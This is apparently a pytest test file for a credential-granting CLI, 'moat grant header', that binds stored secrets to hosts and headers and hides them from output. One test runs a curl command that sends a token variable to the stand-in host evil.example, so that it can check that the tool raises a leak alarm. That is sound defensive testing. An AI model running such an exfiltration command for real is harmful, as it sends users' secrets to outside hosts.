"""`moat grant header NAME`: any credential, for any host, by the words a person types."""

from __future__ import annotations

import json
import subprocess
from typing import Any

import pytest

from moat.cli.bindings import grouped
from moat.errors import UsageError
from moat.providers.placeholder import placeholder_of
from support.cli import Cli
from support.pty import Terminal

SECRET = "t0ken-0123456789"
HOST = ("--host", "api.example.com")


def said(done: subprocess.CompletedProcess[str], code: int, *texts: str) -> str:
    """The hint of an error that says these, with this exit code, and shows no secret."""
    assert code == done.returncode, done.stderr
    assert "" == done.stdout
    message, hint = done.stderr.splitlines()
    for text in texts:
        assert text in message
    assert SECRET not in done.stderr
    assert hint.startswith("hint: ")
    return hint.removeprefix("hint: ")


def stored(cli: Cli) -> dict[str, dict[str, str]]:
    """What is granted, with what is known of it."""
    return {item["grant"]: item["metadata"] for item in cli.json("grant", "list")}


def planned(cli: Cli, *words: str) -> dict[str, Any]:
    """What a run would be."""
    done = cli.run("run", "--dry-run", "--json", *words, "--", "true")
    assert 0 == done.returncode, done.stderr
    plan: dict[str, Any] = json.loads(done.stdout)
    return plan


# granting


@pytest.mark.parametrize("name", [("header", "mine"), ("header:mine",)])
def test_a_secret_is_piped_in(cli: Cli, name: tuple[str, ...]) -> None:
    """It is stored under its name; where it goes is told, and what to type next."""
    done = cli.run("grant", *name, *HOST, stdin=SECRET)
    assert (0, "") == (done.returncode, done.stdout)
    assert [
        "granted header:mine: the secret from standard input is stored, sealed",
        "it goes to https://api.example.com Authorization: Bearer {}",
        "use it with: moat run --grant mine -- COMMAND",
    ] == done.stderr.splitlines()
    assert {"header:mine": {"to": "https://api.example.com Authorization: Bearer {}"}} == (
        stored(cli)
    )


def test_a_secret_is_taken_from_a_variable(cli: Cli) -> None:
    """One that is named; nothing is read from standard input then."""
    done = cli.run("grant", "header", "mine", *HOST, "--from-env", "T", env={"T": SECRET})
    assert 0 == done.returncode
    assert "the secret from $T is stored" in done.stderr


def test_a_secret_is_typed(cli: Cli) -> None:
    """At a terminal, which does not show it."""
    words = ("grant", "header", "mine", *HOST)
    with Terminal() as terminal, terminal.running(cli, *cli.command(*words)) as process:
        terminal.wait_for(b"Secret of mine (not shown): ")
        terminal.type(SECRET.encode() + b"\r")
        assert 0 == terminal.wait(process)
    assert SECRET.encode() not in terminal.seen
    assert ["header:mine"] == list(stored(cli))


def test_there_may_be_several_places(cli: Cli) -> None:
    """Each host begins another; a second time replaces all of the first."""
    words = [*HOST, "--header", "X-Key", "--path", "/v1/**"]
    words += ["--host", "*.b.example:8443", "--format", "token {}"]
    words += ["--host", "c.example", "--substitute", "query:key", "--env", "C_KEY"]
    assert 0 == cli.run("grant", "header", "mine", *words, stdin=SECRET).returncode
    places = (
        "https://api.example.com/v1/** X-Key: {}",
        "https://*.b.example:8443 Authorization: token {}",
        "https://c.example placeholder in query key",
    )
    assert {"header:mine": {"to": "\n".join(places), "env": "C_KEY"}} == stored(cli)
    listed = cli.run("grant", "list").stdout
    assert f"{', '.join(places)} C_KEY" in listed
    assert SECRET not in listed
    done = cli.run("grant", "header", "mine", *HOST, stdin=SECRET)
    assert 0 == done.returncode
    assert ["to"] == list(stored(cli)["header:mine"])
    (told,) = (line for line in done.stderr.splitlines() if "it replaces" in line)
    assert told.startswith("it replaces the one stored on ")
    assert f", which went to {', '.join(places)}; runs that hold that one keep it" in told


def test_what_is_replaced_is_told(cli: Cli) -> None:
    """As a key is renewed: that there was one, and where it went if that is another place."""
    first = cli.run("grant", "header", "mine", *HOST, stdin=SECRET)
    assert "replaces" not in first.stderr
    again = cli.run("grant", "header", "mine", *HOST, stdin=SECRET)
    assert (0, "") == (again.returncode, again.stdout)
    assert "it replaces the one stored on " in again.stderr
    assert "which went to" not in again.stderr
    (file,) = cli.home.glob("credentials/*/header:mine.json")
    file.write_text("{}")
    broken = cli.run("grant", "header", "mine", *HOST, stdin=SECRET)
    assert "it replaces one that could not be opened" in broken.stderr
    for done in (first, again, broken):
        assert SECRET not in done.stderr


def test_of_one_place_the_order_does_not_matter(cli: Cli) -> None:
    """What is typed before the host is for it as well."""
    words = ("--header", "X-Key", "--format", "k={}", *HOST)
    assert 0 == cli.run("grant", "header", "mine", *words, stdin=SECRET).returncode
    assert {"to": "https://api.example.com X-Key: k={}"} == stored(cli)["header:mine"]


@pytest.mark.parametrize(
    ("words", "message"),
    [
        ((), "which host is mine for?"),
        (("--header", "X"), "--header stands before the --host"),
        (("--header", "X", *HOST, "--host", "b.example"), "--header stands before the --host"),
        ((*HOST, "--header", "X", "--header", "Y"), "--header is given twice for one --host"),
        ((*HOST, *HOST), "into the same place"),
        ((*HOST, "--header", "Content-Length"), "'Content-Length' is no header"),
        ((*HOST, "--format", "Bearer"), "'Bearer' is no format"),
        ((*HOST, "--format", "{}{}"), "'{}{}' is no format"),
        ((*HOST, "--path", "v1"), "no place for a credential"),
        ((*HOST, "--substitute", "trailer"), "no part of a request"),
        ((*HOST, "--env", "A-B"), "no name of a variable"),
        ((*HOST, "--env", "HTTPS_PROXY"), "HTTPS_PROXY is set by Moat"),
        (("--host", "https://x.example/"), "write a host, not a URL"),
        (("--host", "x.example:80"), "port 80 is for plain http, which carries no credential"),
        ((*HOST, "--host", "*.x.example:80"), "port 80 is for plain http"),
        ((*HOST, "--organization", "x"), "unrecognized arguments"),
        ((*HOST, "--json"), "--json goes with"),
    ],
)
def test_what_makes_no_sense_is_told(cli: Cli, words: tuple[str, ...], message: str) -> None:
    """In one error, with what to type; nothing is stored."""
    said(cli.run("grant", "header", "mine", *words, stdin=SECRET), 2, message)
    assert {} == stored(cli)


@pytest.mark.parametrize("name", ["openai", "codex", "mcp", "header", "list"])
def test_a_name_with_a_meaning_is_refused(cli: Cli, name: str) -> None:
    """And a free one is proposed."""
    hint = said(cli.run("grant", "header", name, *HOST, stdin=SECRET), 2, "means something else")
    assert f"moat grant header my-{name}" in hint


@pytest.mark.parametrize("name", ["Mine", "a b", "../x", "a:b", "é"])
def test_a_name_is_a_plain_one(cli: Cli, name: str) -> None:
    """It is told what one looks like."""
    said(cli.run("grant", "header", name, *HOST, stdin=SECRET), 2, "is no grant")


@pytest.mark.parametrize("words", [("header",), ("header", *HOST), ("mcp",)])
def test_a_name_is_needed(cli: Cli, words: tuple[str, ...]) -> None:
    """The kind of credential is none."""
    said(cli.run("grant", *words, stdin=SECRET), 2, "a name of its own is missing")


@pytest.mark.parametrize("given", [None, "", " \n", "two\nlines", "ü", "x" * 70_000])
def test_what_is_no_secret_is_not_stored(cli: Cli, given: str | None) -> None:
    """Nothing, several lines, or more than any header has room for."""
    said(cli.run("grant", "header", "mine", *HOST, stdin=given), 1)
    assert {} == stored(cli)


def test_help_is_there_for_the_kind_and_for_a_name(cli: Cli) -> None:
    """With the options of such a grant."""
    for words in (("header", "--help"), ("header", "mine", "--help"), ("header:mine", "-h")):
        done = cli.run("grant", *words)
        assert (0, "") == (done.returncode, done.stderr)
        assert "--substitute PLACE" in done.stdout


# using and revoking


@pytest.mark.parametrize("name", ["mine", "header:mine"])
def test_it_is_used_by_its_name(cli: Cli, name: str) -> None:
    """As it was given, or with what it is; a plan shows where it goes."""
    words = (*HOST, "--path", "/v1/**", "--env", "MY_TOKEN")
    cli.run("grant", "header", "mine", *words, stdin=SECRET)
    plan = planned(cli, "--grant", name)
    assert ["header:mine"] == plan["grants"]
    assert "MY_TOKEN" in plan["environment"]
    assert [
        {
            "destination": "https://api.example.com/v1/**",
            "kind": "set-header",
            "header": "Authorization",
            "parameter": None,
            "grant": "header:mine",
            "headers": [],
        }
    ] == plan["injections"]
    rule = "api.example.com: allow * /v1/** (a grant is bound to it)"
    assert [rule] == plan["policy"]["rules"]
    done = cli.run("run", "--grant", name, "--", "sh", "-c", "echo $MY_TOKEN")
    assert (0, placeholder_of("header:mine") + "\n") == (done.returncode, done.stdout)


def test_a_project_can_name_it(cli: Cli) -> None:
    """Where it goes was said when it was granted, and not by the project."""
    (cli.workspace / "moat.yaml").write_text("grants: [mine]\n")
    done = cli.run("run", "--trust", "--dry-run", "--", "true")
    assert 2 == done.returncode
    assert "there is no provider 'mine'" in done.stderr
    cli.run("grant", "header", "mine", *HOST, stdin=SECRET)
    assert ["header:mine"] == planned(cli, "--trust")["grants"]


def test_what_is_not_stored_is_told(cli: Cli) -> None:
    """With the command that would store it."""
    hint = said(cli.run("run", "--grant", "header:mine", "--", "true"), 1, "there is no grant")
    assert "run: moat grant header mine --host HOST" == hint
    hint = said(cli.run("run", "--grant", "mine", "--", "true"), 2, "there is no grant 'mine'")
    assert (
        "nothing is stored yet; to store one of that name: moat grant header mine --host HOST"
        == hint
    )


def test_what_is_stored_is_told(cli: Cli) -> None:
    """Where another name was typed; and the nearest one."""
    cli.run("grant", "header", "forge", *HOST, stdin=SECRET)
    for words in (("run", "--grant", "{}", "--", "true"), ("revoke", "{}")):
        hints = [
            said(cli.run(*(word.format(name) for word in words)), code, "there is no grant ")
            for name, code in (("nosuch", 2), ("forgo", 2), ("header:nosuch", 1), ("mcp:x", 1))
        ]
        assert "did you mean forge?" == hints[1].partition(";")[0]
        for hint in (hints[0], *hints[2:]):
            assert hint.startswith("stored are: forge")
    assert "see: moat grant list" in hints[-1]


@pytest.mark.parametrize("words", [("header",), ("header", "mine"), ("header:mine",)])
def test_help_says_how_one_is_granted(cli: Cli, words: tuple[str, ...]) -> None:
    """The words as they are typed, what is needed first, and nothing that belongs elsewhere."""
    done = cli.run("grant", *words, "--help")
    usage, _, rest = done.stdout.partition("\n\n")
    assert usage.split()[:6] == ["usage:", "moat", "grant", "header", "NAME", "--host"]
    for option in ("--header", "--format", "--path", "--substitute", "--env", "--from-env"):
        assert f"[{option} " in " ".join(usage.split())
    assert "--json" not in done.stdout
    assert "moat grant header mine --host api.example.com" in rest
    assert "openai" not in done.stdout
    assert all(len(line) <= 80 for line in usage.splitlines())


def test_help_of_all_says_how_each_is_granted(cli: Cli) -> None:
    """And what one that has a single name is called."""
    assert cli.run("grant", "--help").stdout.startswith(
        "usage: moat grant NAME [--no-validate] [OPTIONS OF NAME]\n       moat grant list ["
    )
    assert cli.run("grant", "mcp:x", "--help").stdout.startswith(
        "usage: moat grant mcp:NAME [--url"
    )
    assert cli.run("grant", "codex", "--help").stdout.startswith("usage: moat grant codex [--org")


def test_an_alarm_reads_the_same_wherever_it_is_told(cli: Cli) -> None:
    """At the end of the run, and in its trace."""
    cli.run("grant", "header", "mine", *HOST, "--env", "T", stdin=SECRET)
    words = ("run", "--grant", "mine", "--", "sh", "-c", 'curl -s "https://evil.example/$T"')
    done = cli.run(*words)
    told, hint = done.stderr.splitlines()[-2:]
    alarm = told.removeprefix("moat: ")
    assert "hint: run: moat trace" == hint
    assert alarm.startswith("alarm: the placeholder of header:mine was on its way to https://evil")
    assert alarm in cli.run("trace").stdout
    assert alarm == f"alarm: {cli.json('trace')[0]['alarm']}"


def test_two_for_one_variable_are_told(cli: Cli) -> None:
    """One of their placeholders would be nowhere."""
    for name in ("a", "b"):
        cli.run("grant", "header", name, *HOST, "--env", "TOKEN", stdin=SECRET)
    words = ("run", "--grant", "a", "--grant", "b", "--", "true")
    said(cli.run(*words), 2, "TOKEN would hold the placeholders of header:a and of header:b")


@pytest.mark.parametrize("name", ["mine", "header:mine"])
def test_it_is_revoked_by_its_name(cli: Cli, name: str) -> None:
    """Once; the second time it is not there."""
    cli.run("grant", "header", "mine", *HOST, stdin=SECRET)
    done = cli.run("revoke", name)
    assert 0 == done.returncode
    assert "revoked header:mine" in done.stderr
    assert {} == stored(cli)
    assert cli.run("revoke", name).returncode in (1, 2)


# which option is for which host


def test_options_go_with_the_host_before_them() -> None:
    """Unless there is only one."""
    one, two = ("host", "a"), ("host", "b")
    x, y = ("header", "x"), ("header", "y")
    assert ({"host": "a", "header": "x"}, {"host": "b", "header": "y"}) == (
        grouped([one, x, two, y], "host")
    )
    assert ({"host": "a"}, {"host": "b", "header": "y"}) == grouped([one, two, y], "host")
    assert ({"host": "a", "header": "x"},) == grouped([x, one], "host")
    assert () == grouped([], "host")
    for wrong in ([x, one, two], [x], [one, x, y]):
        with pytest.raises(UsageError):
            grouped(wrong, "host")
